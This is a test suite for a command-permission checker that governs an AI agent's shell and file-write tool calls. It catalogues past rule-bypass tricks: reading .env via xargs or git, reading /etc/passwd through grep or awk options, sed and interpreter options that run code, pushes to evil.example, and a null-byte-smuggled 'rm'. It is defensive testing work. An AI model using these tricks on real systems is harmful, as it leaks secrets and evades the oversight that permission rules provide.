import { readFileSync } from 'node:fs'
import { afterAll, describe, expect, test } from 'vitest'
import { rulesOf, type RuleTexts } from '../../test/rules.ts'
import { makeWorkspace } from '../../test/workspace.ts'
import { nodeFileSystem } from '../node/file-system.ts'
import { commandFiles } from '../path/protected.ts'
import { decide } from './decide.ts'
import type { Verdict } from '../rule/rule.ts'

const workspace = makeWorkspace()
for (const path of ['.env', 'secrets/key', 'src/a.ts', 'notes.txt', 'api/Makefile', 'Makefile'])
  workspace.write(path)
workspace.write(`${workspace.home}/.ssh/id`)
workspace.link('out', workspace.home)
afterAll(() => workspace.remove())
const fileSystem = nodeFileSystem({ cwd: workspace.cwd, home: workspace.home })

async function verdictOf(command: string, rules: RuleTexts): Promise<Verdict> {
  const call = { name: 'Bash', args: { command } }
  return (await decide(call, { rules: rulesOf(rules, workspace.cwd) }, fileSystem)).verdict
}

const SECRETS = ['Read(.env)', 'Read(./secrets/**)']

interface Class {
  readonly allow: readonly string[]
  readonly deny?: readonly string[]
  /** Commands that must not run without approval, and equivalents without the trick, which may. */
  readonly asks: readonly string[]
  readonly plain?: readonly string[]
}

/** Ways in which rules were once bypassed. */
const classes: Readonly<Record<string, Class>> = {
  'a here-document that bash loses': {
    allow: ['Bash(cat:*)', 'Bash(echo:*)', 'Bash(ls:*)', 'Bash(git commit:*)'],
    asks: [
      "((cat <<'E'\ntouch x\nE\n); ls)",
      "! ((cat <<'E'\ntouch x\nE\n) && ls)",
      'for a in b; do ((cat <<E\ntouch x\nE\n); ls); done',
      "echo $((cat <<'E'\ntouch x\nE\n); ls)",
      'echo "$((git commit -m x); ls)"',
      'echo `((ls); ls)`',
    ],
    plain: ["( (cat <<'E'\ntouch x\nE\n); ls)", '(ls; (ls))', 'echo $((1 + 2))'],
  },
  'the folder that a wrapped command moves to': {
    allow: ['Bash(git:*)', 'Bash(cat:*)', 'Bash(make:*)', 'Bash(touch:*)'],
    deny: SECRETS,
    asks: [
      'command cd api && make',
      'builtin cd api; make',
      'command builtin cd secrets && cat key',
      'command -p cd .git && touch hooks',
      '! command cd api; make',
      'command cd api & make; command cd api; make',
    ],
    plain: ['command cd src && cat a.ts', 'cd src && touch b.ts', 'command git status'],
  },
  'files in place of character sets': {
    allow: ['Bash(iconv:*)'],
    asks: [
      'iconv -f ./notes.txt',
      'iconv -f notes.txt src/a.ts',
      'iconv --from-code=src/a.ts notes.txt',
      'iconv -t utf-8/../notes.txt src/a.ts',
      'iconv --to-code notes.txt src/a.ts',
      'iconv -f UTF-8//FILE notes.txt',
    ],
    plain: [
      'iconv -f UTF-8 -t ascii//TRANSLIT notes.txt',
      'iconv --from-code=ISO-8859-1 --to-code=UTF-8//IGNORE notes.txt',
      'iconv -f windows-1252 -t utf-16le notes.txt',
    ],
  },
  'scripts that parse the options of grep': {
    allow: ['Bash(zgrep:*)', 'Bash(zegrep:*)', 'Bash(xzgrep:*)', 'Bash(bzfgrep:*)'],
    asks: [
      'zgrep --after-context notes.txt x.gz',
      'zegrep --regexp notes.txt x.gz',
      'xzgrep --max-count notes.txt x.xz',
      'xzgrep --unknown x x.xz',
      'xzgrep x /etc/passwd',
      'bzfgrep --label notes.txt x.bz2',
      "bzfgrep -A '1 -e root /etc/passwd' x notes.txt",
      "xzgrep '-m1 /etc/pass*' x notes.txt",
      "zgrep -e 'x /etc/passwd' notes.txt",
    ],
    plain: ['zgrep -n -A 3 x a.gz', 'zegrep -ic x a.gz', 'xzgrep --ignore-case x a.xz'],
  },
  'a label that sed ends at the first space': {
    allow: ['Bash(sed:*)'],
    asks: ["sed ':a e touch x' notes.txt", "sed '1b a w x' notes.txt", "sed ':a r .env' notes.txt"],
    plain: ["sed ':a;N;$!ba;s/a/b/' notes.txt", "sed -n ':a;p' notes.txt"],
  },
  'the tables of names in gawk': {
    allow: ['Bash(awk:*)', 'Bash(gawk:*)', 'Bash(make:*)'],
    asks: [
      `gawk 'BEGIN { SYMTAB["A" "RGV"][1] = "x" } 1'`,
      `awk 'BEGIN { print FUNCTAB["x"] }'`,
      "awk -v ENVIRON=x '1' notes.txt",
      "awk '1' ARGV=x notes.txt",
      'make -p',
      'make -np',
    ],
    plain: [`awk -v n=3 'NR == n' notes.txt`, "awk '/ERROR/ { print $2 }' notes.txt"],
  },
  'options of test runners': {
    allow: [
      'Bash(jest:*)',
      'Bash(vitest:*)',
      'Bash(mocha:*)',
      'Bash(pytest:*)',
      'Bash(npm test:*)',
      'Bash(npm run lint:*)',
      'Bash(npx vitest:*)',
      'Bash(yarn test:*)',
      'Bash(yarn jest:*)',
      'Bash(npm exec jest:*)',
      'Bash(npx jest:*)',
      'Bash(python3 -m pytest:*)',
      'Bash(c8:*)',
      'Bash(bats:*)',
    ],
    asks: [
      'jest --coverageReporters=./x.js',
      'jest --testSequencer ./x.js',
      'vitest run --outputFile.json=x',
      'vitest --configLoader=x',
      'vitest run --reporter ./x.js',
      'mocha --spec ./x.js --ui ./y.js',
      'mocha -Rxunit',
      'pytest --debug=x',
      'pytest -pno:x',
      'pytest @x',
      'npm test -- --config x',
      'npm test --prefix=x',
      'npm test --logs-dir x',
      'npm run lint -- --rulesdir x',
      'npx vitest run --diff=./x.js',
      'yarn test --reporter ./x.js',
      'yarn test -r ./x.js',
      'yarn test --filter=./x.js',
      'yarn jest --reporters=./x.js',
      'npm test -- /tmp/x.js',
      'npm test -- ../x.js',
      'npm exec jest -- --reporters=./x.js',
      'npx jest -- --reporters=./x.js',
      'python3 -m pytest --junitxml=x',
      'python3 -m pytest -c x.ini',
      'c8 touch x',
      'c8 node x.js',
      'bats --formatter ./x t.bats',
    ],
    plain: [
      'jest src/a.test.ts -t name --coverage',
      'vitest run src/a.test.ts --reporter=dot --bail 1',
      'mocha test/a.js -R dot -t 5000',
      'pytest tests/test_a.py::test_b -x -q --tb=short',
      'npm test -- --run src/a.test.ts -t "my test"',
      'npx vitest run --reporter=verbose',
      'yarn test --coverage',
      'yarn jest --coverage',
      'npx jest -- a.test.ts',
      'python3 -m pytest -q tests',
    ],
  },
  'code in the options of interpreters': {
    allow: ['Bash(expect:*)', 'Bash(php:*)', 'Bash(node:*)', 'Bash(bun:*)', 'Bash(deno:*)'],
    asks: [
      "expect -c 'exec x'",
      'php -c x a.php',
      'php -d auto_prepend_file=x a.php',
      'node inspect a.js',
      'node -c a.js',
      'bun i x',
      'bun test --preload ./x.js',
      'deno task x',
    ],
    plain: ['php a.php', 'node --test test/', 'node scripts/a.js --any', 'bun test', 'bun a.ts'],
  },
  'options of build tools': {
    allow: [
      'Bash(make:*)',
      'Bash(rake:*)',
      'Bash(cmake:*)',
      'Bash(gradle:*)',
      'Bash(meson:*)',
      'Bash(sbt:*)',
      'Bash(prettier:*)',
      'Bash(turbo:*)',
    ],
    asks: [
      'make -f x',
      'make --eval=x',
      'rake --execute-print x',
      'cmake api',
      'cmake --graphviz=x .',
      'gradle -I x test',
      'gradle --init-script=x',
      'meson runpython x.py',
      "sbt 'eval 1'",
      "sbt 'clean; eval 1'",
      'prettier --plugin-search-dir=x .',
      'turbo run build --graph=x.html',
      'turbo gen x',
    ],
    plain: [
      'make -j8 test',
      'rake db:migrate',
      'gradle test --info',
      'turbo run build',
      'meson test',
    ],
  },
  'names in the input': {
    allow: [
      'Bash(echo:*)',
      'Bash(find:*)',
      'Bash(cat:*)',
      'Bash(git:*)',
      'Bash(sort:*)',
      'Bash(xargs cat:*)',
      'Bash(xargs -I{} cat:*)',
      'Bash(printf:*)',
      'Bash(rev:*)',
    ],
    deny: SECRETS,
    asks: [
      'echo .env | xargs cat',
      'printf .env | xargs cat',
      "echo -e '\\\\x2eenv' | xargs cat",
      "printf '%b' x | xargs cat",
      'echo env | xargs -I{} cat .{}',
      'find src | rev | xargs cat',
      'find . | xargs cat',
      'find . | sort | xargs cat',
      'git ls-files | xargs cat',
      'cat notes.txt | xargs cat',
      'xargs cat < notes.txt',
      "xargs cat <<< '.env'",
      'echo HEAD:.env | git cat-file --batch',
      'echo x | git log --stdin',
    ],
    plain: ['echo src/a.ts | xargs cat', 'echo notes.txt src/a.ts | xargs cat'],
  },
  'names in input from outside': {
    allow: ['Bash(find:*)', 'Bash(grep:*)', 'Bash(cat:*)', 'Bash(head:*)', 'Bash(xargs grep:*)'],
    asks: [
      'find / -name id | xargs grep x',
      'find out/ | xargs grep x',
      "find . -printf '/etc/passwd' | xargs grep x",
      'cat notes.txt | xargs grep x',
      'find . | grep -o /etc/passwd | xargs grep x',
    ],
    plain: [
      'find . -name a.ts | xargs grep x',
      'find src | head -3 | xargs grep x',
      'find src | grep ts | xargs grep x',
    ],
  },
  'files shown by git': {
    allow: ['Bash(git:*)'],
    deny: SECRETS,
    asks: [
      'git show :1:.env',
      "git show 'HEAD@{2020-01-01 10:00:00}:.env'",
      "git show 'HEAD^{/a:b}:.env'",
      "git log -p -- '.e*'",
      "git diff -- ':(glob).e??'",
      "git show HEAD -- ':/.env'",
      'git log -p',
      'git diff',
      'git diff --stat -p',
      'git show HEAD~1',
      'git show HEAD~1 HEAD:src/a.ts',
      'git stash show -p',
      "git grep -n ''",
      'git grep --untracked x',
      'git archive HEAD',
      'git cat-file -p 1234abcd',
      'git unpack-file 1234abcd',
    ],
    plain: [
      'git log --oneline -5',
      'git diff --stat',
      'git diff --name-only HEAD~1',
      'git diff -- src/a.ts',
      'git diff src/a.ts',
      'git log -p -- src/a.ts',
      'git show HEAD:src/a.ts',
      'git show --stat HEAD',
      'git status',
    ],
  },
  'links that options follow': {
    allow: [
      'Bash(grep:*)',
      'Bash(rg:*)',
      'Bash(diff:*)',
      'Bash(find:*)',
      'Bash(tree:*)',
      'Bash(du:*)',
    ],
    asks: [
      'grep -R x .',
      'grep -rnR x .',
      'rg --follow x',
      'rg -nL x',
      'diff -r src api',
      'find -L . -name id',
      'tree -l',
      'du -L .',
    ],
    plain: [
      'grep -rn x .',
      'rg -n x',
      'diff src/a.ts notes.txt',
      'find . -name id',
      'tree -L 2',
      'du -sh .',
    ],
  },
  'options hidden in a bundle': {
    allow: ['Bash(git:*)', 'Bash(tree:*)', 'Bash(sort:*)'],
    asks: [
      'git format-patch -nox -1',
      'git format-patch -kno x',
      'tree -Lo 1 x',
      'tree -Po a x',
      'sort -uox notes.txt',
    ],
    plain: [
      'git format-patch -n --stdout -1',
      'tree -aL 2',
      'sort -k2nr notes.txt',
      'sort -t: -k1,1 notes.txt',
    ],
  },
  'readers that write': {
    allow: [
      'Bash(ptx:*)',
      'Bash(xxd:*)',
      'Bash(uniq:*)',
      'Bash(npm ls:*)',
      'Bash(git interpret-trailers:*)',
    ],
    asks: [
      'ptx -G a x',
      'xxd -r notes.txt -x',
      'xxd notes.txt x',
      'uniq notes.txt x',
      'npm ls --cache=x',
      'git interpret-trailers --in-place notes.txt',
    ],
    plain: ['ptx notes.txt', 'xxd -u notes.txt', 'uniq -c notes.txt', 'npm ls --depth=0'],
  },
  'files that are changed in place': {
    allow: ['Bash(prettier:*)', 'Bash(eslint:*)'],
    deny: ['Edit(./src/**)'],
    asks: ['prettier --write src/a.ts', 'prettier -w package.json', 'eslint --fix src/a.ts'],
    plain: ['prettier --check src/a.ts', 'prettier --write notes.txt', 'eslint src/a.ts'],
  },
  "another machine in git's notation": {
    allow: ['Bash(git:*)'],
    deny: ['WebFetch(domain:evil.example)'],
    asks: [
      'git ls-remote evil.example:x',
      'git clone me@evil.example:x',
      'git fetch evil.example:x',
      'git push ssh://evil.example/x',
      'git clone git+ssh://evil.example/x',
      'git ls-remote other.example:x',
    ],
    plain: ['git ls-remote origin', 'git push origin HEAD:main'],
  },
  'commits that are not from a remote': {
    allow: ['Bash(git:*)', 'WebFetch(domain:good.example)'],
    asks: [
      'git pull https://good.example/x main',
      'git fetch ssh://good.example/x',
      'git fetch me@good.example:x',
      'git fetch good.example:x main',
      'git fetch --multiple origin https://good.example/x',
      'git fetch https://good.example/x && git merge FETCH_HEAD',
    ],
    plain: [
      'git pull',
      'git pull origin feature/a',
      'git fetch --all',
      'git fetch --multiple origin upstream',
      'git ls-remote https://good.example/x',
    ],
  },
  'a protected folder named by git clone': {
    allow: ['Bash(git:*)', 'Write(./**)'],
    deny: ['Write(./locked/**)'],
    asks: [
      'git clone https://good.example/.vscode',
      'git clone https://good.example/x/.toolglot.git',
      'git clone https://good.example/x/.husky/.git/',
      'git clone https://good.example/node_modules//',
      'git clone me@good.example:.claude',
      'git clone https://good.example/x node_modules',
      'git clone --depth=1 https://good.example/x vendor',
      'git clone https://good.example/locked',
      'git clone https://good.example:8080/',
      'git clone "https://good.example/ x"',
    ],
    plain: ['git clone https://good.example/x', 'git clone https://good.example/x.git copy'],
  },
  'packages that are not in the registry': {
    allow: ['Bash(npm:*)', 'Bash(pnpm:*)'],
    deny: ['WebFetch(domain:evil.example)'],
    asks: [
      'npm view https://evil.example/x.tgz',
      'npm info git+ssh://evil.example/x',
      'pnpm view some/repository',
      'npm view ./evil',
    ],
    plain: ['npm view @types/node versions', 'npm view a@^4.1 dependencies.b', 'npm search a b'],
  },
  'words after the program of awk, which are files': {
    allow: ['Bash(awk:*)', 'Bash(mawk:*)'],
    deny: ['Read(.env)'],
    asks: ["awk '{print}' -F .env", "awk '{print}' notes.txt -v .env", 'mawk 1 -F /etc/passwd'],
    plain: ["awk -F : '{print $1}' notes.txt", "awk -v x=1 '{print x}' notes.txt"],
  },
  'files that make writes by its built-in rules': {
    allow: ['Bash(make:*)', 'Write(./**)'],
    deny: ['Write(./locked.json)', 'Write(./src/**)'],
    asks: ['make package.json', 'make -s Makefile', 'make sub/AGENTS.md', 'make locked.json'],
    plain: ['make', 'make test lint', 'make src'],
  },
  'linters that run or show files named in their input': {
    allow: ['Bash(cppcheck:*)', 'Bash(rustfmt:*)', 'Bash(ansible-lint:*)'],
    asks: ['cppcheck src', 'rustfmt --check a.rs', 'ansible-lint play.yml'],
  },
  'redirects to a host that is denied': {
    allow: ['Bash(curl:*)', 'WebFetch(domain:good.example)'],
    deny: ['WebFetch(domain:evil.example)'],
    asks: [
      'curl -L https://good.example/',
      'curl -sSfL https://good.example/',
      'curl https://good.example/ --location',
      'curl -L https://other.example/',
    ],
    plain: ['curl -sSf https://good.example/', 'curl https://other.example/'],
  },
  'addresses after one in a rule': {
    allow: [
      'Bash(curl https://good.example/:*)',
      'WebFetch(domain:good.example)',
      'WebFetch(domain:bad.example)',
    ],
    asks: [
      'curl https://good.example/ https://bad.example/',
      'curl https://good.example/ -s https://bad.example/',
    ],
    plain: ['curl https://good.example/ -s'],
  },
}

describe.each(Object.entries(classes))('%s', (_, { allow, deny = [], asks, plain = [] }) => {
  test.each(asks)('%j needs approval', async (command) => {
    expect(await verdictOf(command, { allow, deny })).not.toBe('allow')
  })
  test.each(plain)('%j is allowed', async (command) => {
    expect(await verdictOf(command, { allow, deny })).toBe('allow')
  })
})

test.each(['', '  ', '\n\t', 'ls\0', 'git status\0; rm x'])(
  '%j is denied without asking',
  async (command) => {
    expect(await verdictOf(command, { allow: ['Bash(*)', 'Bash(ls:*)'] })).toBe('deny')
  },
)

test.each([
  ['jest --reporters=./x.js', 'Bash(jest:*)', '--reporters'],
  ['npm test -- -r x', 'Bash(npm test:*)', '-r'],
  ['npx jest --env=x', 'Bash(npx jest:*)', '--env'],
  ['tree -Lo 1 x', 'Bash(tree:*)', '-o'],
  ['mocha -R x', 'Bash(mocha:*)', '-R'],
  ['cat --x notes.txt', 'Bash(cat:*)', '--x'],
])('the reason for %j contains the cause of the doubt', async (command, rule, option) => {
  const call = { name: 'Bash', args: { command } }
  expect((await decide(call, { rules: rulesOf({ allow: [rule] }) }, fileSystem)).why).toContain(
    option,
  )
})

test('a rule is suggested only if it would help', async () => {
  const whyOf = async (command: string): Promise<string> =>
    (await decide({ name: 'Bash', args: { command } }, { rules: [] }, fileSystem)).why
  expect(await whyOf('CI=1 jest --config x')).toContain('Bash(jest --config x)')
  expect(await whyOf("jest --config 'x:*'")).not.toContain('Bash(')
})

test('a suggested rule never allows more than the command', async () => {
  const whyOf = async (command: string): Promise<string> =>
    (await decide({ name: 'Bash', args: { command } }, { rules: [] }, fileSystem)).why
  expect(await whyOf('rm -rf build')).toContain('Bash(rm -rf build)')
  for (const command of ['rm -rf build', 'git push', 'node a.js', 'frob x y', './a.sh'])
    expect(await whyOf(command)).not.toContain(':*')
})

describe('files that running commands load', () => {
  const write = async (file_path: string, more: object = {}): Promise<Verdict> =>
    (
      await decide(
        { name: 'Write', args: { file_path, content: 'x' } },
        { rules: rulesOf({ allow: ['Write(./**)'] }, workspace.cwd), ...more },
        fileSystem,
      )
    ).verdict

  test.each([
    'Makefile',
    'api/GNUmakefile',
    'conftest.py',
    'web/vitest.config.mts',
    'node_modules/.bin/tsc',
    'Cargo.toml',
    // The targets of programs in `node_modules/.bin`, and files of a virtual environment.
    'node_modules/eslint/bin/eslint.js',
    '.venv/lib/python3.12/site-packages/a.pth',
    'vendor/autoload.php',
    // `npm ci` installs and runs the packages named in it: `"resolved": "file:evil.tgz"`.
    'package-lock.json',
    // Names of settings files of any program.
    'uno.config.ts',
    'karma.conf.js',
    '.postcssrc.cjs',
    '.luacheckrc',
    '.config/stylelintrc.mjs',
    'docker-compose.override.yml',
    'buildSrc/src/main/java/A.java',
    'web/project.json',
    // Make rebuilds a makefile if it can: from a script, or from a version in RCS.
    'Makefile.sh',
    'web/gnumakefile.sh',
    'rules.mk.sh',
    'RCS/Makefile,v',
    'configure.ac',
    // `npm install` builds it and runs commands in it.
    'binding.gyp',
    'CTestCustom.ctest',
    // Like package-lock.json, these files list code to install.
    'poetry.lock',
    'Pipfile.lock',
    'packages.lock.json',
    'requirements-dev.txt',
    // Settings may extend those in any file, and error messages show lines of that file.
    '.yamllint',
    'ruff.toml',
    '.checkov.yaml',
    '.webpack/webpackfile.js',
    'patches/left-pad@1.3.0.patch',
    // Task runners also search these folders.
    'tasks/__init__.py',
    'site_scons/site_init.py',
    'BUILD',
    'lib/BUILD',
    'WORKSPACE',
    'App.xcodeproj/project.pbxproj',
    '.formatter.exs',
    '.markdownlint-cli2.cjs',
  ])('%s needs approval, unless a setting allows it', async (path) => {
    expect(await write(path)).toBe('ask')
    expect(await write(path, { mode: 'acceptEdits' })).toBe('ask')
    expect(await write(path, { commandFiles: 'allow' })).toBe('allow')
  })

  test.each([
    ['rm -rf node_modules/.cache dist', 'allow'],
    ['rm -rf node_modules package-lock.json', 'allow'],
    ['rm vitest.config.ts', 'ask'],
    ['mv package-lock.json x', 'ask'],
    ['cp a package-lock.json', 'ask'],
  ] as const)('generated files may be removed: %s', async (command, verdict) => {
    const allow = ['Bash(rm:*)', 'Bash(mv:*)', 'Bash(cp:*)', 'Write(./**)']
    const call = { name: 'Bash', args: { command } }
    const decision = await decide(call, { rules: rulesOf({ allow }, workspace.cwd) }, fileSystem)
    expect(decision.verdict).toBe(verdict)
  })

  test('other files need no approval, and the setting allows no other protected file', async () => {
    for (const path of [
      'src/a.ts',
      'build/out.js',
      'src/vitest.ts',
      'workspace/a.txt',
      'src/config.ts',
    ])
      expect(await write(path)).toBe('allow')
    for (const path of [
      'pnpm-workspace.yaml',
      'package.yaml',
      'lefthook.toml',
      'lint-staged.config.js',
    ])
      expect(await write(path, { commandFiles: 'allow' })).toBe('ask')
    expect(await write('package.json', { commandFiles: 'allow' })).toBe('ask')
    expect(await write('.git/hooks/pre-commit', { commandFiles: 'allow' })).toBe('ask')
  })

  test('the docs list all of them', () => {
    const page = readFileSync(new URL('../../../../docs/permissions.md', import.meta.url), 'utf8')
    const section = page.slice(page.indexOf('## Files that running commands load'))
    for (const name of commandFiles) expect(section).toContain(`\`${name}\``)
  })
})

test('sed -i needs a rule for the program and one for the file, as documented', async () => {
  const command = 'sed -i s/a/b/ src/a.ts'
  expect(await verdictOf(command, { allow: ['Bash(sed:*)'] })).toBe('ask')
  expect(await verdictOf(command, { allow: ['Write(./src/**)'] })).toBe('ask')
  expect(await verdictOf(command, { allow: ['Bash(sed:*)', 'Write(./src/**)'] })).toBe('allow')
})

describe('a command with a starting folder is judged like one after cd', () => {
  const folders = [
    'src',
    './api',
    'secrets',
    'api/../src',
    'out',
    workspace.home,
    '/etc',
    '..',
    'none',
  ]
  const commands = ['pwd', 'cat a.ts', 'cat ../.env', 'make', 'touch new', 'cd .. && cat .env']
  test.each(folders.flatMap((folder) => commands.map((command) => [folder, command] as const)))(
    'in %s: %s',
    async (folder, command) => {
      const permissions = {
        rules: rulesOf({ allow: ['Bash', 'Write(./src/**)'], deny: SECRETS }, workspace.cwd),
      }
      const decideOn = async (args: object): Promise<Verdict> =>
        (await decide({ name: 'Bash', args: { ...args } }, permissions, fileSystem)).verdict
      expect(await decideOn({ command, cwd: folder })).toBe(
        await decideOn({ command: `cd ${folder} && ${command}` }),
      )
    },
  )

  test('so it needs no approval in the workspace', async () => {
    const call = { name: 'Bash', args: { command: 'pwd', cwd: 'src' } }
    const rules = rulesOf({ allow: ['Bash'] }, workspace.cwd)
    expect((await decide(call, { rules }, fileSystem)).verdict).toBe('allow')
  })
})
